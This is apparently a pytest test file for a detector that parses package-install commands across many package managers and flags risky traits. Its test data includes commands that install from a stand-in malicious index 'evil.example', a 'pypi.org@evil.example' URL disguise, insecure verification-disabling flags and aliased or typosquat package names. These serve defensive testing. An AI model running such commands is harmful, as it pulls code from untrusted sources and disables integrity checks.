"""What commands install: names as their indexes compare them, where they come from, and how."""

import shlex

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tidegate.detect.acts.act import Act
from tidegate.detect.acts.installs import installs_of

INDEX = "https://evil.example/simple"


def read(command: str) -> tuple[Act, ...]:
    words = shlex.split(command)
    environment: dict[str, str] = {}
    while "=" in words[0] and not words[0].startswith("-"):
        name, _, value = words.pop(0).partition("=")
        environment[name] = value
    return installs_of(words, environment)


@pytest.mark.parametrize(
    ("command", "targets"),
    [
        ("pip install requests 'flask==2.0' 'pyyaml>=5,<7' 'uvicorn[standard]'",
         "pypi:requests pypi:flask pypi:pyyaml pypi:uvicorn"),
        ("pip install Flask_Login ruamel.yaml", "pypi:flask-login pypi:ruamel-yaml"),
        ("/usr/bin/pip3.11 install -U --user requests", "pypi:requests"),
        ("PIP.EXE install requests", "pypi:requests"),
        ("python -m pip install requests", "pypi:requests"),
        ("python3.12 -I -m pip --quiet install requests", "pypi:requests"),
        ("python -mpip install requests", "pypi:requests"),
        ("python -X utf8 -m pip install requests", "pypi:requests"),
        ("py -3 -m pip install requests", "pypi:requests"),
        ("pip install --upgrade pip", "pypi:pip"),
        ("pip install --upgrade --user --pre --no-deps --force-reinstall requests", "pypi:requests"),
        ("pip install -U --no-cache-dir --break-system-packages requests", "pypi:requests"),
        ("pip install --progress-bar off requests", "pypi:requests"),
        ("npm install --save-dev --no-audit --force --legacy-peer-deps vitest", "npm:vitest"),
        ("uv add --upgrade --dev requests", "pypi:requests"),
        ("cargo install --locked --force ripgrep", "cargo:ripgrep"),
        ("pip download requests", "pypi:requests"),
        ("pip wheel requests", "pypi:requests"),
        ("pip install -r requirements.txt", "pypi:file:requirements.txt"),
        ("pip install -qr reqs.txt -rmore.txt", "pypi:file:reqs.txt pypi:file:more.txt"),
        ("pip install -e .", "pypi:path:."),
        ("pip install --editable=./lib", "pypi:path:./lib"),
        ("pip install ./dist/foo-1.0-py3-none-any.whl", "pypi:path:./dist/foo-1.0-py3-none-any.whl"),
        ("pip install git+https://github.com/a/b.git", "pypi:github.com/a/b.git"),
        ("pip install 'b @ git+ssh://git@github.com/a/b.git@main'", "pypi:github.com/a/b.git@main"),
        ("pip install 'x @ https://e.example/x-1.0-py3-none-any.whl'", "pypi:e.example/x-1.0-py3-none-any.whl"),
        ("pip install https://e.example/x.tar.gz", "pypi:e.example/x.tar.gz"),
        ("pip install 'requests; python_version > \"3.8\"'", "pypi:requests"),
        ("uv pip install requests", "pypi:requests"),
        ("uv add httpx 'pydantic>2' --dev", "pypi:httpx pypi:pydantic"),
        ("uv add --git https://github.com/a/b b", "pypi:github.com/a/b"),
        ("uv run --with rich,httpx python x.py", "pypi:rich pypi:httpx"),
        ("uv run python x.py", ""),
        ("uv tool install black --with foo", "pypi:black pypi:foo"),
        ("uv tool run ruff check", "pypi:ruff"),
        ("uv sync", "pypi:file:pyproject.toml"),
        ("uvx ruff@0.5 check --with-something", "pypi:ruff"),
        ("uvx --from 'black[d]' blackd", "pypi:black"),
        ("pipx install poetry", "pypi:poetry"),
        ("pipx run cowsay hello", "pypi:cowsay"),
        ("pipx inject poetry evil", "pypi:evil"),
        ("poetry add requests@^2.0 flask --group dev", "pypi:requests pypi:flask"),
        ("pdm add -d pytest", "pypi:pytest"),
        ("poetry install --without dev --extras all", "pypi:file:pyproject.toml"),
        ("bun init -y app", ""),
        ("rye add numpy", "pypi:numpy"),
        ("pipenv install requests", "pypi:requests"),
        ("conda install -y -n env -c conda-forge numpy=1.2 scipy", "other:conda/numpy other:conda/scipy"),
        ("npm install express lodash@4 @types/node@20", "npm:express npm:lodash npm:@types/node"),
        ("npm i -D vitest", "npm:vitest"),
        ("npm isntall vitest", "npm:vitest"),
        ("npm ci", "npm:file:package.json"),
        ("npm install", "npm:file:package.json"),
        ("npm i user/repo", "npm:github.com/user/repo"),
        ("npm i gitlab:user/repo#main", "npm:gitlab.com/user/repo"),
        ("npm i react@npm:evil@1", "npm:evil"),
        ("npm i foo@github:u/r", "npm:github.com/u/r"),
        ("npm i git+ssh://git@github.com/u/r.git", "npm:github.com/u/r.git"),
        ("npm i https://x.example/a.tgz", "npm:x.example/a.tgz"),
        ("npm i ./local", "npm:path:./local"),
        ("npm i lodash@https://x.example/a.tgz", "npm:x.example/a.tgz"),
        ("npm i a-1.0.0.tgz", "npm:path:a-1.0.0.tgz"),
        ("npm pkg set dependencies.loadsh=4 name=web", "npm:loadsh"),
        ("go mod edit -replace github.com/a/b=github.com/e/b@v1", "go:github.com/e/b"),
        ("go mod edit -replace github.com/a/b=../b", ""),
        ("npm create vite@latest app", "npm:create-vite"),
        ("npm init @eslint/config", "npm:@eslint/create-config"),
        ("npm exec -- cowsay hi", "npm:cowsay"),
        ("npm run build", ""),
        ("npm test", ""),
        ("npm init -y", ""),
        ("npx -y create-react-app my-app", "npm:create-react-app"),
        ("npx tsc --noEmit", "npm:typescript"),
        ("npx --package=foo -- bar", "npm:foo"),
        ("yarn add react", "npm:react"),
        ("yarn", "npm:file:package.json"),
        ("yarn dlx foo", "npm:foo"),
        ("yarn global add serve", "npm:serve"),
        ("yarn build", ""),
        ("pnpm add -D vitest", "npm:vitest"),
        ("pnpm dlx degit u/r", "npm:degit"),
        ("pnpm exec tsc", ""),
        ("bun add zod", "npm:zod"),
        ("bunx cowsay", "npm:cowsay"),
        ("deno add npm:chalk@5", "npm:chalk"),
        ("deno run https://x.example/m.ts", "npm:x.example/m.ts"),
        ("cargo install ripgrep", "cargo:ripgrep"),
        ("cargo install --git https://github.com/a/b", "cargo:github.com/a/b"),
        ("cargo add tokio@1.2 serde_json --features full", "cargo:tokio cargo:serde-json"),
        ("cargo build --release", ""),
        ("go get github.com/Gin-Gonic/gin@v1.9", "go:github.com/gin-gonic/gin"),
        ("go install github.com/a/b/cmd/c@latest", "go:github.com/a/b"),
        ("go run github.com/a/b@latest", "go:github.com/a/b"),
        ("go run ./cmd/x", ""),
        ("go run main.go", ""),
        ("go mod tidy", "go:file:go.mod"),
        ("gem install rails -v 7.0", "gem:rails"),
        ("bundle add devise", "gem:devise"),
        ("bundle install", "gem:file:Gemfile"),
        ("bundle exec rspec", ""),
        ("apt-get install -y --no-install-recommends curl git=1:2.3", "apt:curl apt:git"),
        ("apt-get update", ""),
        ("apt install ./x.deb", "apt:path:./x.deb"),
        ("dpkg -i x.deb", "apt:path:x.deb"),
        ("yum install -y https://e.example/x.rpm", "apt:e.example/x.rpm"),
        ("apk add --no-cache bash", "apt:bash"),
        ("pacman -S --noconfirm vim", "apt:vim"),
        ("brew install jq", "brew:jq"),
        ("brew install user/tap/formula", "brew:github.com/user/homebrew-tap"),
        ("brew tap user/repo", "brew:github.com/user/homebrew-repo"),
        ("composer require monolog/monolog:^2", "other:composer/monolog/monolog"),
        ("dotnet add package Newtonsoft.Json --version 13", "other:nuget/newtonsoft.json"),
        ("dotnet add app.csproj package Dapper", "other:nuget/dapper"),
        ("cpanm Moose", "other:cpan/moose"),
        ("Rscript -e 'install.packages(c(\"dplyr\", \"ggplot2\"))'", "other:cran/dplyr other:cran/ggplot2"),
        ("code --install-extension ms-python.python", "other:vscode/ms-python.python"),
        ("docker pull nginx:1.2", "other:docker/library/nginx"),
        ("docker run --rm -it -v a:b -p 80:80 ghcr.io/o/img:latest sh", "other:docker/ghcr.io/o/img"),
        ("docker ps -a", ""),
        ("nix-env -iA nixpkgs.hello", "other:nix/hello"),
        ("nix run github:u/r", "other:github.com/u/r"),
        ("gh extension install o/r", "other:github.com/o/r"),
        ("snap install code --classic", "other:snap/code"),
        ("poetry run pip install requests", "pypi:requests"),
        ("uv run pip install requests", "pypi:requests"),
        ("uv run --with rich pip install requests", "pypi:rich pypi:requests"),
        ("hatch -e dev run pip install requests", "pypi:requests"),
        ("conda run -n dev pip install requests", "pypi:requests"),
        ("docker exec -it app pip install requests", "pypi:requests"),
        ("docker run --rm python:3.12 pip install requests", "other:docker/library/python pypi:requests"),
        ("corepack yarn add react", "npm:react"),
        ("yarn workspace web add react", "npm:react"),
        ("bundle exec gem install rails", "gem:rails"),
        ("poetry run pytest", ""),
        ("$PYTHON -m pip install requests", "pypi:requests"),
        ("python -m uv pip install requests", "pypi:requests"),
        ("pip list", ""),
        ("pip uninstall requests", ""),
        ("python app.py install requests", ""),
        ("git status", ""),
        ("pip install \"$PKG\"", ""),
    ],
)  # fmt: skip
def test_targets(command: str, targets: str) -> None:
    assert [act.target for act in read(command) if act.target] == targets.split()


@pytest.mark.parametrize(
    ("command", "trait"),
    [
        (f"pip install -i {INDEX} x", "other_index"),
        (f"pip install -i{INDEX} x", "other_index"),
        (f"pip install --index-url={INDEX} x", "other_index"),
        (f"pip install --index={INDEX} x", "other_index"),
        (f"pip --index-url {INDEX} install x", "other_index"),
        (f"pip install --extra-i {INDEX} x", "extra_index"),
        (f"pip install --extra {INDEX} x", "extra_index"),
        (f"pip install --find-links {INDEX} x", "extra_index"),
        ("pip install -i http://evil.example/simple x", "insecure"),
        ("pip install --trusted-host evil.example x", "insecure"),
        (f"PIP_INDEX_URL={INDEX} pip install x", "other_index"),
        (f"UV_INDEX_URL={INDEX} uv pip install x", "other_index"),
        (f"uv pip install x --default-index {INDEX}", "other_index"),
        (f"uv add x --index corp={INDEX}", "other_index"),
        (f"pipx install x --pip-args='--index-url {INDEX}'", "other_index"),
        (f"poetry source add foo {INDEX}", "extra_index"),
        ("conda install -c evil numpy", "extra_index"),
        (f"npm i x --registry {INDEX}", "other_index"),
        (f"npm i x --reg={INDEX}", "other_index"),
        (f"npm i @corp/x --@corp:registry={INDEX}", "other_index"),
        (f"npm_config_registry={INDEX} npm i x", "other_index"),
        (f"NPM_CONFIG_REGISTRY={INDEX} npx x", "other_index"),
        ("npm i x --ignore-scripts=false", "scripts"),
        ("npm i x --ignore-scripts", "no_scripts"),
        ("npm i x --strict-ssl=false", "insecure"),
        ("npm i react@npm:evil", "aliased"),
        ("npx x", "runs"),
        ("uvx x", "runs"),
        (f"cargo install x --index {INDEX}", "other_index"),
        (f"GOPROXY={INDEX} go get github.com/a/b", "other_index"),
        (f"go env -w GOPROXY={INDEX},direct", "other_index"),
        ("GONOSUMDB=* go get github.com/a/b", "insecure"),
        ("GOSUMDB=off go get github.com/a/b", "insecure"),
        (f"gem install x --source {INDEX}", "other_index"),
        (f"gem sources --add {INDEX}", "extra_index"),
        ("apt-get install -y --allow-unauthenticated x", "insecure"),
        ("apt-get -o Acquire::AllowInsecureRepositories=true install x", "insecure"),
        ("apk add --allow-untrusted x", "insecure"),
        (f"apk add -X {INDEX} x", "extra_index"),
        (f"helm repo add x {INDEX}", "extra_index"),
        ("add-apt-repository ppa:a/b", "extra_index"),
        ("pip install $PKG", "unresolved"),
    ],
)
def test_traits(command: str, trait: str) -> None:
    acts = read(command)
    assert acts
    assert all(trait in act.traits for act in acts)


@pytest.mark.parametrize(
    "command",
    ["pip install -i https://{0}/simple requests", "uv pip install --default-index https://{0}/simple requests"],
)
def test_the_usual_index_is_no_other(command: str) -> None:
    (act,) = read(command.format(".".join(("pypi", "org"))))
    assert act.traits == frozenset()


def test_an_index_that_only_begins_like_the_usual_one_is_another() -> None:
    (act,) = read("pip install -i https://{}@evil.example/simple requests".format(".".join(("pypi", "org"))))
    assert "other_index" in act.traits
    assert act.package is not None
    assert act.package.index is not None
    assert act.package.index.host == "evil.example"


def test_what_comes_from_elsewhere_has_its_url() -> None:
    (act,) = read("pip install git+https://github.com/a/b.git#egg=requests")
    assert act.package is not None
    assert (act.package.normal, act.package.source) == ("requests", "vcs")
    assert act.url is not None
    assert act.url.host == "github.com"


words = st.lists(
    st.one_of(
        st.sampled_from(
            [
                "install",
                "add",
                "-r",
                "-i",
                "-e",
                "--index-url",
                "-m",
                "pip",
                "run",
                "exec",
                "@",
                ";",
                "x@",
                "git+",
                "npm:",
                "--",
                "=",
                "--=",
                "-",
                "@/",
                "/",
            ]
        ),
        st.text(max_size=12),
    ),
    max_size=8,
)
programs = st.sampled_from(
    [
        "pip",
        "python",
        "uv",
        "uvx",
        "pipx",
        "poetry",
        "conda",
        "npm",
        "npx",
        "yarn",
        "bun",
        "deno",
        "cargo",
        "go",
        "gem",
        "bundle",
        "apt",
        "dpkg",
        "apk",
        "brew",
        "composer",
        "dotnet",
        "docker",
        "nix",
        "helm",
        "asdf",
        "gh",
        "r",
        "julia",
        "code",
        "install-module",
        "winget",
        "add-apt-repository",
    ]
)


@given(programs, words)
def test_never_raises(program: str, rest: list[str]) -> None:
    for act in installs_of([program, *rest], {}):
        assert act.verb in ("install", "configure")


def test_no_words() -> None:
    assert installs_of([], {}) == ()
